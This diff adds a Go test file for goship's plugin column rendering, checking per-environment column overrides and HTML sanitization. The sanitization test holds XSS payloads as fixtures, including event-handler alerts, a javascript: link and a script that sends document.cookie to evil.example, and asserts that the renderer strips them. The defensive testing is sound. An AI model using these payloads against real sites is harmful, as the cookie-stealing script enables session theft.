@@ -0,0 +1,100 @@
+package plugin_test
+
+import (
+	"html/template"
+	"reflect"
+	"testing"
+
+	"github.com/gengo/goship/plugins/plugin"
+)
+
+// fakeColumn renders its name.
+type fakeColumn string
+
+func (c fakeColumn) RenderHeader() (template.HTML, error) {
+	return template.HTML("<th>" + c + "</th>"), nil
+}
+
+func (c fakeColumn) RenderDetail() (template.HTML, error) {
+	return template.HTML("<td>" + c + "</td>"), nil
+}
+
+func TestColumns(t *testing.T) {
+	cols := new(plugin.Columns)
+	travis := cols.AddPluginColumn(fakeColumn("travis"))
+	jenkins := cols.AddPluginColumn(fakeColumn("jenkins"))
+	e2e := cols.AddEnvironmentColumn("staging", fakeColumn("e2e"))
+	jenkins.Override("staging", fakeColumn("jenkins-staging"))
+	travis.Disable("staging")
+	e2e.Override("qa", fakeColumn("e2e-qa"))
+
+	if got, want := cols.Headers(), []plugin.Column{fakeColumn("travis"), fakeColumn("jenkins"), fakeColumn("e2e")}; !reflect.DeepEqual(got, want) {
+		t.Errorf("cols.Headers() = %q; want %q", got, want)
+	}
+	for env, want := range map[string][]plugin.Column{
+		"production": {fakeColumn("travis"), fakeColumn("jenkins"), nil},
+		"staging":    {nil, fakeColumn("jenkins-staging"), fakeColumn("e2e")},
+		"qa":         {fakeColumn("travis"), fakeColumn("jenkins"), fakeColumn("e2e-qa")},
+	} {
+		if got := cols.Row(env); !reflect.DeepEqual(got, want) {
+			t.Errorf("cols.Row(%q) = %q; want %q", env, got, want)
+		}
+	}
+
+	if got, err := plugin.RenderDetail(nil, "staging"); err != nil || got != "<td></td>" {
+		t.Errorf("plugin.RenderDetail(nil, %q) = %q, %v; want an empty cell", "staging", got, err)
+	}
+}
+
+// hostileColumn renders "header" and "detail" as they are.
+type hostileColumn struct {
+	header, detail string
+}
+
+func (c hostileColumn) RenderHeader() (template.HTML, error) {
+	return template.HTML(c.header), nil
+}
+
+func (c hostileColumn) RenderDetail() (template.HTML, error) {
+	return template.HTML(c.detail), nil
+}
+
+// hostileEnvironmentColumn renders the detail of each environment with "detail".
+type hostileEnvironmentColumn struct {
+	hostileColumn
+}
+
+func (c hostileEnvironmentColumn) RenderEnvironmentDetail(env string) (template.HTML, error) {
+	return template.HTML(`<td onclick="alert(1)">` + env + `<script>alert(2)</script></td>`), nil
+}
+
+// trustedColumn is a hostileColumn trusted to render anything.
+type trustedColumn struct {
+	hostileColumn
+}
+
+func (c trustedColumn) Trusted() {}
+
+func TestRenderSanitizesColumns(t *testing.T) {
+	hostile := hostileColumn{
+		header: `<th style="color: red" onmouseover="alert(1)">CI<img src="x" onerror="alert(2)"></th>`,
+		detail: `<td><a href="javascript:alert(3)">build</a><script>document.location = "https://evil.example/?" + document.cookie</script></td>`,
+	}
+	if got, err := plugin.RenderHeader(hostile); err != nil || got != `<th>CI<img src="x"></th>` {
+		t.Errorf("plugin.RenderHeader(hostile) = %q, %v; want sanitized", got, err)
+	}
+	if got, err := plugin.RenderDetail(hostile, "staging"); err != nil || got != `<td><a>build</a></td>` {
+		t.Errorf("plugin.RenderDetail(hostile, %q) = %q, %v; want sanitized", "staging", got, err)
+	}
+	if got, err := plugin.RenderDetail(hostileEnvironmentColumn{hostile}, "staging"); err != nil || got != `<td>staging</td>` {
+		t.Errorf("plugin.RenderDetail(hostileEnvironmentColumn, %q) = %q, %v; want sanitized", "staging", got, err)
+	}
+
+	trusted := trustedColumn{hostileColumn{header: `<th style="min-width: 100px">CI</th>`, detail: `<td><form action="/deploy"></form></td>`}}
+	if got, err := plugin.RenderHeader(trusted); err != nil || got != `<th style="min-width: 100px">CI</th>` {
+		t.Errorf("plugin.RenderHeader(trusted) = %q, %v; want as it is", got, err)
+	}
+	if got, err := plugin.RenderDetail(trusted, "staging"); err != nil || got != `<td><form action="/deploy"></form></td>` {
+		t.Errorf("plugin.RenderDetail(trusted, %q) = %q, %v; want as it is", "staging", got, err)
+	}
+}